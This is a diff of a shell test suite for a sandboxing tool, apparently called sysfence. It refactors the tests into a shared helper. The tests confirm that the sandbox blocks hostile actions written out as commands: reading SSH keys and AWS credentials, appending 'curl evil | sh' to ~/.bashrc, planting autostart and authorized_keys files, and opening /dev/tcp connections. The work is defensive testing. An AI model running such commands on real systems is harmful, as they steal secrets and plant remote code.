@@ -67,10 +67,7 @@ setup() {
 }
 
 teardown() {
-	local p
-	for p in "${PIDS[@]}"; do
-		kill -KILL "$p" 2>/dev/null || true
-	done
+	sf_kill_pids
 }
 
 # Run as the user with a real home, in it, with HOME set.
@@ -80,6 +77,17 @@ as_home() {
 
 as_root_home() {
 	(cd "$RH" && env HOME="$RH" "$@")
+}
+
+# as_who WHO COMMAND...: as_home for "user", as_root_home for "root".
+as_who() {
+	local who=$1
+	shift
+	if [ "$who" = user ]; then
+		as_home "$@"
+	else
+		as_root_home "$@"
+	fi
 }
 
 # probe_as WHO WANT [SYSFENCE-ARGS... --] PROBE-ARGS: the probe bare (no --)
@@ -99,11 +107,7 @@ probe_as() {
 	else
 		cmd=("$PROBE" "$@")
 	fi
-	if [ "$who" = user ]; then
-		run -0 --separate-stderr as_home "${cmd[@]}"
-	else
-		run -0 --separate-stderr as_root_home "${cmd[@]}"
-	fi
+	run -0 --separate-stderr as_who "$who" "${cmd[@]}"
 	assert_output "$want"
 }
 
@@ -117,11 +121,7 @@ secrets_hidden() {
 	probe_as "$who" EACCES -p default -- open "$h/.bash_history"
 	probe_as "$who" EACCES -p default -- open "$h/.gnupg"
 	# What a shell sees: nothing of the secret.
-	if [ "$who" = user ]; then
-		run --separate-stderr as_home "$SYSFENCE" -p default -- sh -c 'cat ~/.ssh/id_rsa ~/.aws/credentials'
-	else
-		run --separate-stderr as_root_home "$SYSFENCE" -p default -- sh -c 'cat ~/.ssh/id_rsa ~/.aws/credentials'
-	fi
+	run --separate-stderr as_who "$who" "$SYSFENCE" -p default -- sh -c 'cat ~/.ssh/id_rsa ~/.aws/credentials'
 	assert_failure
 	refute_output --partial "PRIVATE KEY"
 	refute_output --partial s3cr3t
@@ -145,11 +145,7 @@ dotfiles_read_only() {
 	probe_as "$who" EROFS -p default -- open-rw "$h/.bashrc"
 	probe_as "$who" EROFS -p default -- touch "$h/.config/autostart/evil.desktop"
 	probe_as "$who" EROFS -p default -- touch "$h/.ssh/authorized_keys"
-	if [ "$who" = user ]; then
-		run as_home "$SYSFENCE" -p default -- sh -c 'echo "curl evil | sh" >>~/.bashrc'
-	else
-		run as_root_home "$SYSFENCE" -p default -- sh -c 'echo "curl evil | sh" >>~/.bashrc'
-	fi
+	run as_who "$who" "$SYSFENCE" -p default -- sh -c 'echo "curl evil | sh" >>~/.bashrc'
 	assert_failure
 	# On the host: nothing changed, nothing planted.
 	[ "$(sha256sum "$h/.bashrc")" = "$before" ]
@@ -232,23 +228,13 @@ dotfiles_read_only() {
 	local connect="exec 3<>/dev/tcp/127.0.0.1/$port && echo reached"
 	local self='import socket; s = socket.socket(); s.bind(("127.0.0.1", 0)); s.listen(); socket.create_connection(s.getsockname()); print("loopback up")'
 	for who in root user; do
-		if [ "$who" = user ]; then
-			run -0 as_home bash -c "$connect"
-			assert_output reached
-			run as_home "$SYSFENCE" -p view-net -- bash -c "$connect"
-			assert_failure
-			refute_output --partial reached
-			run -0 as_home "$SYSFENCE" -p view-net -- python3 -c "$self"
-			assert_output "loopback up"
-		else
-			run -0 as_root_home bash -c "$connect"
-			assert_output reached
-			run as_root_home "$SYSFENCE" -p view-net -- bash -c "$connect"
-			assert_failure
-			refute_output --partial reached
-			run -0 as_root_home "$SYSFENCE" -p view-net -- python3 -c "$self"
-			assert_output "loopback up"
-		fi
+		run -0 as_who "$who" bash -c "$connect"
+		assert_output reached
+		run as_who "$who" "$SYSFENCE" -p view-net -- bash -c "$connect"
+		assert_failure
+		refute_output --partial reached
+		run -0 as_who "$who" "$SYSFENCE" -p view-net -- python3 -c "$self"
+		assert_output "loopback up"
 	done
 }
 
@@ -315,11 +301,7 @@ dotfiles_read_only() {
 	local who name
 	for who in root user; do
 		name="sysfence-shm-$RANDOM"
-		if [ "$who" = user ]; then
-			run -0 as_home "$SYSFENCE" -p devices -- sh -c "ls /dev | tr '\n' ' '; echo x >/dev/null && echo >/dev/shm/$name && echo written"
-		else
-			run -0 as_root_home "$SYSFENCE" -p devices -- sh -c "ls /dev | tr '\n' ' '; echo x >/dev/null && echo >/dev/shm/$name && echo written"
-		fi
+		run -0 as_who "$who" "$SYSFENCE" -p devices -- sh -c "ls /dev | tr '\n' ' '; echo x >/dev/null && echo >/dev/shm/$name && echo written"
 		assert_line --index 0 --regexp '^fd full null ptmx pts random shm stderr stdin stdout tty urandom zero ?(written)?$'
 		assert_output --partial written
 		assert_file_not_exists "/dev/shm/$name"
